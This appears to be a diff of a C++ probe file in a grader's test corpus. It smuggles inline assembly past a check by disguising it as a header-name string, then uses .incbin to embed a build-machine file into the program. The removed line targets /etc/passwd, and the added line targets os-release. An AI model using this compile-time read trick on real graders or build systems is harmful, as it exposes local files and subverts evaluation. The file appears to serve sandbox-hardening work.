@@ -1,4 +1,4 @@
-// Reads a file of the machine into the program. A string that has the form of a header's name hides it.
+// Reads a file that the compiler can see into the program. A string that has the form of a header's name hides it.
 
 #include "grader/corpus/probe/probe.h"
 
@@ -6,7 +6,7 @@
 
 #define __has_embed(a, b, c) b
 
-__has_embed("\"", asm(".pushsection .rodata; .globl leak; leak: .incbin \"/etc/passwd\"; .byte 0; .popsection"), "");
+__has_embed("\"", asm(".pushsection .rodata; .globl leak; leak: .incbin \"/usr/lib/os-release\"; .byte 0; .popsection"), "");
 extern "C" const char leak[];
 
 namespace course {
